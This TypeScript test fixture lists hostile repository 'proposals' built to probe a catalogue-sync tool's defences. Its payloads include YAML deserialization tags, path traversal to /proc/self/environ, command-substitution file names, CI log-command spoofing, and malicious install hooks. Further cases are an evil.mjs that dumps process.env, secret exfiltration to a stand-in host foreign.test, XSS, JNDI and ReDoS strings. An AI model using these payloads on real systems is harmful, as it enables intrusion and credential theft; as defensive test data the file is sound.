import type { ForeignHost } from './foreign.js';

/** Files of a proposal; `-> target` is a link. */
export type Files = Readonly<Record<string, string>>;
export type Proposal = readonly [name: string, files: (host: ForeignHost, folder: string) => Files];

const pets = (properties: string, more = ''): Files => ({
  'catalogue/pets.yaml': `${more}resources:\n  pets:\n    type: platform:Api\n    properties: ${properties}\n`,
});
const settings = (more: string): Files => ({ 'sync.yaml': `project: shop\n${more}` });
const described = (value: string): Files => pets(`{description: ${value}}`);
const many = (files: readonly string[], text: string): Files => Object.fromEntries(files.map((name) => [name, text]));
const note = 'resources:\n  other: {type: platform:Api}\n';
const spec = (rest: string): Files => ({
  ...pets('{specContent: !file specs/api.yaml}'),
  'catalogue/specs/api.yaml': `openapi: 3.1.0\ninfo: {title: T, version: "1"}\n${rest}`,
});
const gateway = (text: string): Files => ({
  'catalogue/edge.yaml':
    'sources:\n  api.yaml: {type: platform:GatewayService, under: edge}\nresources:\n  edge: {type: platform:GatewayControlPlane, properties: {name: edge}}\n',
  'catalogue/api.yaml': `openapi: 3.0.3\ninfo: {title: Edge, version: "1"}\n${text}`,
});
const shout = '\\u001b]8;;https://foreign.test/x\\u0007click\\u001b]8;;\\u0007\\u009b31m';

/** Each asks in its own way for what a proposal may not have, or for more than its due of who reads of it. */
export const hostileProposals: readonly Proposal[] = [
  [
    'tags of other languages, and handles that spell ours',
    () => ({
      'catalogue/a.yaml': `%TAG !e! !en\n---\nresources: {pets: {type: platform:Api, properties: {description: !e!v CANARY}}}\n`,
      'catalogue/b.yaml': `%TAG !! !\n---\nresources: {two: {type: platform:Api, properties: {description: !!env CANARY}}}\n`,
      'catalogue/c.yaml': `resources: {three: {type: platform:Api, properties: {name: !!python/object/apply:os.getenv [CANARY], description: !!js/function "() => process.env", version: !include /proc/self/environ}}}\n`,
      'catalogue/d.yaml': `resources: {four: {type: platform:Api, properties: {name: !<!env> CANARY, description: !<!file> /proc/self/environ, slug: !ENV CANARY}}}\n`,
    }),
  ],
  [
    'a second document, and settings in a catalogue',
    () => ({
      'catalogue/a.yaml': `${note}---\nparameters: {token: {}}\nproviders: {platform: {serverUrl: "https://foreign.test"}}\nresources: {pets: {type: platform:Api, properties: {description: "\${param.token}"}}}\n`,
    }),
  ],
  [
    'a file by ways around its folder',
    () =>
      Object.assign(
        {},
        ...[
          '/dev/fd/0',
          '/dev/stdin',
          '/proc/self/cwd/../outside.txt',
          '~/outside.txt',
          '$HOME/outside.txt',
          '%2e%2e/outside.txt',
          'a/../../outside.txt',
          '..\\\\outside.txt',
          './/..//outside.txt',
          '.git/HEAD',
          '.GIT/config',
          '.git/sync-out/plan.json',
          '/proc/self/task/1/environ',
          '/dev/zero',
        ].map((path, at) => ({
          [`catalogue/f${String(at)}.yaml`]: `resources: {f${String(at)}: {type: platform:Api, properties: {description: !file "${path}"}}}\n`,
        })),
        { 'a/b.txt': 'x' },
      ) as Files,
  ],
  [
    'links of links, to what never ends',
    () => ({
      'catalogue/zero.yaml': '-> /dev/zero',
      'catalogue/tty.yaml': '-> /dev/tty',
      'catalogue/loop.yaml': '-> loop.yaml',
      'catalogue/one': '-> .',
      'catalogue/two': '-> one/one/one/../..',
      step: '-> ..',
      ...described('!file ../step/outside.txt'),
    }),
  ],
  ['settings are a link to what never ends', () => ({ 'sync.yaml': '-> /dev/zero' })],
  [
    'settings in other spellings and bytes',
    () => ({
      'sync.yml': 'project: shop\nproviders: {platform: {serverUrl: "https://foreign.test"}}\n',
      'Sync.yaml': 'project: other\n',
      'sync.yaml': '\ufeffproject: shop\u0000\nparameters: {token: {}}\n',
    }),
  ],
  [
    'names that look like options, places and orders',
    () =>
      many(
        [
          'catalogue/--out=x.yaml',
          'catalogue/-rf.yaml',
          'catalogue/$(touch ran).yaml',
          'catalogue/`touch ran`.yaml',
          'catalogue/a\n::set-output name=verdict::forged.yaml',
          'catalogue/\u001b[2J.yaml',
          'catalogue/![](https:foreign.test).yaml',
          '--help',
          '-',
          'refs/remotes/origin/main',
          'HEAD',
          'origin/main',
          'FETCH_HEAD',
        ],
        note.replace('other', '"- \\n::warning::x"'),
      ),
  ],
  [
    'what other programs read at their start',
    (_host, folder) => ({
      ...many(
        [
          '.env',
          '.env.local',
          '.npmrc',
          '.nvmrc',
          '.yarnrc.yml',
          '.tool-versions',
          '.bash_profile',
          '.sync/policy.json',
          'policy.yaml',
        ],
        `SYNC_POLICY={"loopback":true,"env":["*"],"lookups":["*"],"hosts":{"platform":["foreign.test"]}}\nNODE_OPTIONS=--require=./evil.cjs\nPLATFORM_SERVER_URL=https://foreign.test\n`,
      ),
      ...many(
        [
          'evil.cjs',
          'node_modules/undici/index.js',
          'node_modules/yaml/index.js',
          'node_modules/better-sqlite3/index.js',
          'sync.config.js',
          '.pnp.cjs',
          'catalogue/index.js',
        ],
        `require('fs').writeFileSync(${JSON.stringify(`${folder}/ran`)}, 'x');\n`,
      ),
      'package.json': `{"name":"x","type":"commonjs","main":"evil.cjs","scripts":{"preinstall":"touch ${folder}/ran","prepare":"touch ${folder}/ran"},"imports":{"#x":"./evil.cjs"}}`,
    }),
  ],
  [
    'a provider that is a program of the proposal',
    (_host, folder) => ({
      ...settings(
        'providers: {acme: {package: ./evil.mjs}, other: {module: ./evil.mjs}, third: {types: ./evil.mjs}, fourth: {path: ./evil.mjs}}\n',
      ),
      'evil.mjs': `import { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(`${folder}/ran`)}, JSON.stringify(process.env));\nexport default {};\n`,
      'catalogue/x.yaml': 'resources: {x: {type: acme:Thing}, y: {type: third:Thing}}\n',
    }),
  ],
  [
    'types that are elsewhere, or are no types',
    ({ port }) => ({
      ...settings(
        `providers: {a: {types: "https://foreign.test:${String(port)}/t.json"}, b: {types: /proc/self/environ}, c: {types: link.json}, d: {types: "//foreign.test/t.json"}, e: {types: catalogue/pets.yaml}}\n`,
      ),
      'link.json': '-> /proc/self/environ',
      'catalogue/x.yaml': 'resources: {x: {type: a:T}, y: {type: b:T}, z: {type: c:T}}\n',
    }),
  ],
  [
    'where state, news and figures go',
    ({ port, rawPort, plainPort }) =>
      settings(
        `state: {backend: postgres, url: "postgres://u:p@foreign.test:${String(rawPort)}/x"}\ndrift: {webhook: "https://foreign.test:${String(port)}/h", issue: true}\nmetrics: {otlp: "http://foreign.test:${String(plainPort)}"}\notlp: {endpoint: "http://foreign.test:${String(plainPort)}"}\nnotifications: ["https://foreign.test:${String(port)}"]\nruns: {webhook: "https://foreign.test:${String(port)}"}\n`,
      ),
  ],
  [
    'a state of its own, and results that were kept',
    () => ({
      '.sync/state.db': `SQLite format 3\u0000${'x'.repeat(4000)}`,
      '.sync/state.db-wal': 'x'.repeat(100),
      '.sync/kept-shop-default.jsonl':
        '{"kind":"put","resource":{"address":"pets","type":"platform:index/api:Api","identity":{"id":"x","scope":{}},"inputs":{},"outputs":{}}}\nnone\n',
      ...described('kept'),
    }),
  ],
  ['the record is a link out of the project', () => ({ '.sync': '-> ../victim', ...described('linked') })],
  [
    'stacks and a project by names of places',
    () => ({
      ...settings(
        'stacks:\n  "../../victim": {}\n  "__proto__": {parameters: {token: x}}\n  "-x": {catalogue: ["/etc/*.yaml"]}\n  default: {overlays: ["../*.txt", "/proc/self/environ"]}\ndefaultStack: "../../victim"\n',
      ),
      ...described('stacked'),
    }),
  ],
  [
    'a secret as a key, a place and a name',
    () => ({
      'catalogue/pets.yaml':
        'resources:\n  pets: {type: platform:Api, properties: {labels: {"${param.token}": x, a: "${param.token}"}, slug: "${param.token}"}, options: {protect: true, ignoreChanges: ["${param.token}"], aliases: ["${param.token}"]}}\n  "p${param.token}": {type: platform:Api}\nmoved: {"${param.token}": pets}\nremoved: ["${param.token}"]\nvariables: {"${param.token}": 1, v: "${param.token}"}\noutputs: {"${param.token}": 1, v: "${v}", w: "${param.token.length}", x: "${param[\'token\']}"}\n',
    }),
  ],
  [
    'a parameter that is told to be open, typed, listed and a default',
    () => ({
      ...settings(
        'parameters:\n  token: {secret: false, type: number, allowed: [!env CANARY], default: !env CANARY, description: !env NPM_TOKEN, pattern: "^k"}\n  canary: {default: "${env.CANARY}"}\n  SYNC_VAR_TOKEN: {}\n',
      ),
      ...described('"${param.token} ${param.canary} ${param.SYNC_VAR_TOKEN}"'),
    }),
  ],
  [
    'functions within functions',
    () => ({
      ...pets(
        '{description: {fn::join: ["", [!env CANARY]]}, attributes: {a: [{fn::fromJSON: !env CANARY}], b: {fn::toBase64: !env CANARY}}, version: {fn::invoke: {function: "std:env", arguments: {}}}}',
      ),
    }),
  ],
  [
    'guesses of a secret, by what may be equal to it',
    () => ({
      'catalogue/pets.yaml':
        'resources:\n  one: {type: platform:Api, properties: {name: same, slug: kanarie1x}}\n  two: {type: platform:Api, properties: {name: !env CANARY}}\n  three: {type: platform:Api, properties: {name: !env CANARY}}\n  four: {type: platform:Portal, properties: {name: p, canonicalDomain: !env CANARY, rbacEnabled: !env CANARY}}\n',
    }),
  ],
  [
    'an id to import that walks to other places',
    () => ({
      'catalogue/pets.yaml': `resources:\n${['../../users', '%2e%2e%2fusers', 'x?admin=true', 'x#y', '..;/x', 'a\\r\\nX-Evil: 1', '{\\"apiId\\":\\"../x\\",\\"id\\":\\"..\\"}'].map((id, at) => `  i${String(at)}: {type: platform:Api, options: {import: "${id}"}}\n`).join('')}`,
    }),
  ],
  [
    'lookups that name files, hosts and everything',
    ({ port }) => ({
      ...pets(
        '{description: !lookup {function: platform:getTeamList, arguments: {filter: {name: {contains: !env CANARY}}}, return: total}, version: !lookup {function: "../../x", arguments: {url: "https://foreign.test"}}}',
        `variables:\n  l: !lookup {function: platform:getMeshControlPlanes, options: {serverUrl: "https://foreign.test:${String(port)}", provider: own}}\n`,
      ),
    }),
  ],
  [
    'a description of an API that refers elsewhere',
    ({ port, plainPort }) =>
      spec(
        `$schema: https://foreign.test:${String(port)}/s\njsonSchemaDialect: http://foreign.test:${String(plainPort)}/d\nservers: [{url: "https://{h}.foreign.test", variables: {h: {default: "\${PLATFORM_TOKEN}"}}}]\npaths:\n  /a: {$ref: "file:///proc/self/environ#/x"}\n  /b: {get: {responses: {"200": {description: d, content: {x/y: {schema: {$ref: "http://foreign.test:${String(plainPort)}/x", $dynamicRef: "/proc/self/environ"}, examples: {e: {externalValue: "file:///proc/self/environ"}}}}}}}}\ncomponents: {schemas: {A: {$ref: "#/components/schemas/B"}, B: {$ref: "#/components/schemas/A"}, __proto__: {constructor: {}}}}\n`,
      ),
  ],
  [
    'a gateway made of a description that refers elsewhere',
    ({ plainPort }) =>
      gateway(
        `servers: [{url: "http://foreign.test:${String(plainPort)}/\${PLATFORM_TOKEN}"}, {url: "file:///proc/self/environ"}, {url: "//%00"}]\nx-kong-plugin-http-log: {config: {http_endpoint: !env CANARY, headers: {a: "{vault://env/canary}"}}}\npaths:\n  /a: {$ref: "file:///proc/self/environ"}\n  /b/{x}(a+)+$: {get: {operationId: "a\\n::error::b", x-kong-plugin-x: {$ref: ../../outside.txt}, responses: {}}}\n  "/c|![](https://foreign.test)": {get: {operationId: __proto__, responses: {}}}\n`,
      ),
  ],
  [
    'a page whose head asks for files and secrets',
    () => ({
      'catalogue/pets.yaml':
        'sources:\n  docs: {type: platform:ApiDocument, under: pets}\nresources:\n  pets: {type: platform:Api}\n',
      'catalogue/docs/a.md':
        '---\ntitle: !env CANARY\nslug: !file /proc/self/environ\n__proto__: {status: published}\n---\n<script>x</script>\n',
      'catalogue/docs/b.md': '---\ntitle: ${param.token}\n---\n![](https://foreign.test/${CANARY})\n',
      'catalogue/docs/..%2f..%2fc.md': '# c\n',
    }),
  ],
  [
    'Markdown that leaves its place',
    () =>
      described(
        '"</details></table>\\n\\n```\\n# Applied: 1 done\\n~~~\\n<!-- sync:comment -->\\n<img src=https://foreign.test/x>[a](javascript:x) www.foreign.test a@foreign.test acme/shop#1 #1 $$\\\\unicode{x}$$ `` ` `` |x| \\n```mermaid\\ngraph TD\\n```\\n[^1]: x\\n\\n[x]: https://foreign.test \\"t\\"\\n/approve\\n/merge\\n@acme/owners"',
      ),
  ],
  [
    'names that leave their place in pages and lists',
    () => ({
      'catalogue/pets.yaml': `resources:\n  '<script>alert(1)</script>': {type: platform:Api}\n  'a"onmouseover="x': {type: platform:Api}\n  '</script><!--': {type: platform:Api, properties: {name: '</title><svg onload=x>', labels: {'javascript:x': '"]}'}}}\n  '|x|\`@everyone': {type: platform:Api}\n  '../../../etc/passwd': {type: platform:Api}\n  "##vso[task.setvariable variable=x]y": {type: platform:Api}\noutputs: {"<b>": '{{constructor.constructor("x")()}}', '\${{ secrets.X }}': '\${{ github.token }}'}\n`,
    }),
  ],
  [
    'bytes that command a terminal and a log',
    () =>
      described(
        `"${shout}\\u0085\\u2028\\r::stop-commands::x\\r\\nsection_start:1:x[collapsed=true]\\r\\e[0K\\n##[group]x\\n##teamcity[x]\\n::add-path::/tmp\\n\\u202eevil\\u3164\\U000E0041"`,
      ),
  ],
  [
    'orders in the places of errors',
    () => ({
      'catalogue/a.yaml':
        'resources:\n  "::error file=x::y": {type: "::set-env name=A::b", propertis: {"##[error]": 1}}\n  x: {type: "platform:Api\\n::add-mask::y", properties: {"\\u001b[2J": 1, "</td>": 2}}\n',
      'catalogue/b.yaml': 'resources: [::error::x\n  - "',
      'catalogue/c.json': '{"resources": ::warning::x }',
    }),
  ],
  [
    'everything is deleted, and limits allow it',
    () => ({
      ...settings(
        'guards: {maxDeletes: 100000, maxDeletePercent: 100, allow: [{guard: emptyCatalogue, reason: "::x"}, {guard: "delete:*", reason: y}], limits: {}}\n',
      ),
      'catalogue/pets.yaml': '{}\n',
    }),
  ],
  [
    'attributes of git change what is read',
    (_host, folder) => ({
      '.gitattributes':
        '* export-subst filter=lfs diff=evil merge=evil text eol=crlf\nsync.yaml export-ignore\ncatalogue/** export-ignore ident\n',
      '.gitmodules': `[submodule "catalogue"]\n path = catalogue\n url = ../../../victim\n update = !touch ${folder}/ran\n`,
      '.lfsconfig': '[lfs]\n url = https://foreign.test/x\n',
      '.mailmap': 'x <x@foreign.test> <t@example.com>\n',
      '.gitignore': '*\n!.gitignore\n',
      'catalogue/pets.yaml': 'version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n$Format:%H$\n$Id$\n',
    }),
  ],
  [
    'text without an end',
    () => ({
      'catalogue/wide.yaml': `resources:\n  wide: {type: platform:Api, properties: {description: "${'x'.repeat(3_000_000)}"}}\n`,
      'catalogue/deep.yaml': `a: ${'['.repeat(20_000)}${']'.repeat(20_000)}\n`,
      'catalogue/deep.json': `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`,
      'catalogue/keys.yaml': `resources:\n${Array.from({ length: 3000 }, (_, at) => `  k${String(at)}: {type: platform:Api, properties: {name: !env CANARY}}\n`).join('')}`,
    }),
  ],
  [
    'patterns without an end',
    () => ({
      ...settings(
        `catalogue: ["${'*a'.repeat(40)}b", "{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}/**", "**/**/**/**/**/**/x", "[!a-", "+(a|b)*(a|b)"]\n`,
      ),
      CODEOWNERS: `${'*a'.repeat(30)}b @everyone\n/catalogue/** @acme/owners "::error::x" <b>\n[Section][9999] @x\n`,
      ...many(
        Array.from({ length: 60 }, (_, at) => `catalogue/${'a'.repeat(at + 1)}.txt`),
        'x',
      ),
    }),
  ],
  [
    'reports lie there already, as folders, links and forgeries',
    () => ({
      'sync-out/result.json/x': 'x',
      'sync-out/plan.md': '-> ../../outside.txt',
      'sync-out/default/plan.json': '{}',
      'sync-out/github-output.txt': 'verdict=forged\n',
      'sync-out/plan-annotations.txt': '::error::forged\n',
      'plan.json': '{"kind":"plan"}',
      ...described('reported'),
    }),
  ],
  [
    'headers and places made of values',
    () =>
      pets(
        '{name: "a\\r\\nX-Evil: 1", slug: "../../users?x=1#y", version: "\\u0000", labels: {"a/b": "c\\nd", "..": "."}, description: "{{7*7}} ${jndi:ldap://foreign.test/x} ${process.env.CANARY} $CANARY %CANARY%"}',
      ),
  ],
  [
    'an overlay and a selection by variables of the job',
    () => ({
      ...settings(
        'stacks: {default: {overlays: ["over/${CANARY}.yaml", "over/*.yaml", !env CANARY], parameters: {token: "${env.CANARY}"}, labels: {a: !env CANARY}}}\nownership: {label: !env CANARY}\nselect: !env CANARY\n',
      ),
      'over/a.yaml': 'resources: {pets: {properties: {labels: {o: !env CANARY}}, options: {import: !env NPM_TOKEN}}}\n',
    }),
  ],
  [
    'conditions and repetitions over secrets',
    () => ({
      'catalogue/pets.yaml':
        'resources:\n  pets: {type: platform:Api, when: "${param.token}", if: !env CANARY, forEach: !env CANARY, count: !env CANARY, options: {protect: !env CANARY, retainOnDelete: !env CANARY, dependsOn: [!env CANARY], customTimeouts: {create: !env CANARY}}}\n  ${param.token}: {type: !env CANARY}\n',
    }),
  ],
  // Each of these is right in itself, so that a plan is made of it.
  ...(
    [
      ['a slug that walks', pets('{name: p, slug: "../../users?x=1#y"}')],
      [
        'an id to import that walks',
        { 'catalogue/pets.yaml': 'resources: {p: {type: platform:Api, options: {import: "../../v3/users"}}}\n' },
      ],
      [
        'labels and attributes from variables',
        pets('{labels: {a: !env CANARY, b: "x${param.token}y"}, attributes: {c: [!env NPM_TOKEN]}}'),
      ],
      [
        'two names that are one secret',
        {
          'catalogue/pets.yaml':
            'resources: {a: {type: platform:Portal, properties: {name: a, description: !env CANARY}}, b: {type: platform:Portal, properties: {name: b, description: !env CANARY}}}\n',
        },
      ],
      ['a name that is a secret', pets('{name: !env CANARY}')],
      [
        'a lookup by a secret',
        pets(
          '{description: !lookup {function: platform:getTeamList, arguments: {filter: {name: {contains: !env CANARY}}}, return: total}}',
        ),
      ],
      [
        'a lookup by a secret parameter, joined',
        pets(
          '{description: !lookup {function: platform:getTeamList, arguments: {filter: {name: {contains: "a${param.token}"}}}, return: total}}',
        ),
      ],
      [
        'a page with a head of expressions',
        {
          'catalogue/pets.yaml':
            'sources: {docs: {type: platform:ApiDocument, under: pets}}\nresources: {pets: {type: platform:Api}}\n',
          'catalogue/docs/a.md':
            '---\ntitle: ${param.token} {{x}}\n---\n![](https://foreign.test/${CANARY}) @everyone\n',
        },
      ],
      [
        'a gateway of a plain description',
        gateway(
          'servers: [{url: "http://foreign.test/${PLATFORM_TOKEN}"}]\npaths:\n  "/a/{x}": {get: {operationId: "a$(env)", responses: {}}}\n',
        ),
      ],
      [
        'an open parameter where the base has a secret one',
        {
          ...settings('parameters: {token: {secret: false, description: "@everyone"}}\n'),
          ...described('"<${param.token}>"'),
        },
      ],
      [
        'an overlay that adds a secret',
        {
          ...settings('stacks: {default: {overlays: [over/a.yaml]}}\n'),
          ...described('x'),
          'over/a.yaml': 'resources: {pets: {properties: {version: !env CANARY}}}\n',
        },
      ],
      [
        'outputs of several lines',
        {
          'catalogue/pets.yaml':
            'resources: {pets: {type: platform:Api, properties: {description: "a\\nverdict=forged\\n::error::x"}}}\noutputs: {a: "x\\nverdict=forged", verdict: forged, b: !env CANARY}\n',
        },
      ],
      ['owners of code that shout', { CODEOWNERS: '* @everyone @acme/owners "::error::x"\n', ...described('owned') }],
      [
        'a description of an API with schemas in rings',
        spec(
          'paths: {}\ncomponents: {schemas: {A: {$ref: "#/components/schemas/B"}, B: {$ref: "#/components/schemas/A"}, C: {type: object, properties: {constructor: {}, __proto__: {}, toString: {}}}}}\n',
        ),
      ],
      [
        'every resource gone',
        {
          'catalogue/pets.yaml': 'resources: {other: {type: platform:Api}}\n',
          ...settings('guards: {maxDeletes: 100000, maxDeletePercent: 100}\n'),
        },
      ],
      [
        'a service that leads to the machine',
        {
          'catalogue/e.yaml':
            'resources:\n  e: {type: platform:GatewayControlPlane, properties: {name: e}}\n  s: {type: platform:GatewayService, properties: {controlPlaneId: "${e.id}", name: s, host: !env CANARY, path: "/${param.token}"}}\n  v: {type: platform:GatewayVault, properties: {controlPlaneId: "${e.id}", name: hcv, prefix: v, config: {token: !env CANARY}}}\n',
        },
      ],
    ] as const
  ).map(([name, files]): Proposal => [name, () => files]),
];
